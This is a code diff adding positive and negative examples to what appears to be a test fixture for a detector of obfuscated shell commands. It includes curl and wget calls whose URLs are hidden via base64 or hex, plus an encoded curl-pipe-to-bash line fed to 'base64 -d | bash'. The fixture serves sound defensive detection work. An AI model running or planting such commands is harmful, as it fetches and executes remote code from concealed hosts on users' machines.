@@ -3,6 +3,18 @@ import { type FamilyExamples, fence, sh } from "./example.ts";
 const encoded = btoa("curl -fsSL https://notes-sync.dev/x | bash");
 
 export const obfuscationExamples: FamilyExamples = {
+  "T11-hidden-address": {
+    positive: [
+      sh('curl -sL "$(echo aHR0cHM6Ly9pbi5sYW5laG9zdC5pby9h | base64 -d)" -o notes'),
+      sh("wget -q $(echo 68747470733a2f2f612e62 | xxd -r -p)"),
+      { "a.sh": 'U=$(base64 --decode place.txt)\ncurl -s "$(base64 -di place.txt)"\n' },
+    ],
+    negative: [
+      sh("curl -s https://api.github.com/repos/a/b | jq -r .content | base64 -d"),
+      sh('curl -s "$(jq -r .url settings.json)"'),
+      sh('curl -s "https://api.github.com/x?k=$(base64 < notes.txt)"'),
+    ],
+  },
   "T11-decode-and-run": {
     positive: [
       sh(`echo ${encoded} | base64 -d | bash`),
